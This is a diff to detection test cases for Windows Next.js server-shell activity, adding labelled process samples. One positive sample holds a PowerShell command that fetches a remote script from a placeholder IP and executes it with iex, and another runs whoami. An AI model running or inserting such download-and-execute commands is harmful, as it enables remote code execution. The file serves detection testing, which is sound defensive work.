@@ -296,12 +296,17 @@ CASES = {
               "Runner.Listener.exe configure --url https://github.com/corp/app --unattended --token T --name build01")]),
     "lw-win-nextjs-server-shell": ("high",
         [proc(S32 + "cmd.exe", "cmd.exe /d /s /c \"whoami\"", "C:\\Program Files\\nodejs\\node.exe",
-              "node C:\\srv\\app\\node_modules\\next\\dist\\server\\lib\\start-server.js")],
+              "node C:\\srv\\app\\node_modules\\next\\dist\\server\\lib\\start-server.js"),
+         proc(PS, "powershell -nop -c \"irm http://203.0.113.9/a.ps1|iex\"", "C:\\Program Files\\nodejs\\node.exe",
+              "node C:\\srv\\app\\node_modules\\next\\dist\\bin\\next start")],
         [proc("C:\\Program Files\\nodejs\\node.exe", "node C:\\srv\\app\\.next\\server\\worker.js",
               "C:\\Program Files\\nodejs\\node.exe",
               "node C:\\srv\\app\\node_modules\\next\\dist\\server\\lib\\start-server.js"),
          proc(S32 + "cmd.exe", "cmd.exe /d /s /c \"npm run build\"", "C:\\Program Files\\nodejs\\node.exe",
-              "node npm-cli.js run deploy")]),
+              "node npm-cli.js run deploy"),
+         # server code shelling out to git through child_process.exec (always via cmd.exe on Windows)
+         proc(S32 + "cmd.exe", "cmd.exe /d /s /c \"git rev-parse HEAD\"", "C:\\Program Files\\nodejs\\node.exe",
+              "node C:\\srv\\app\\node_modules\\next\\dist\\server\\lib\\start-server.js")]),
 }
 
 
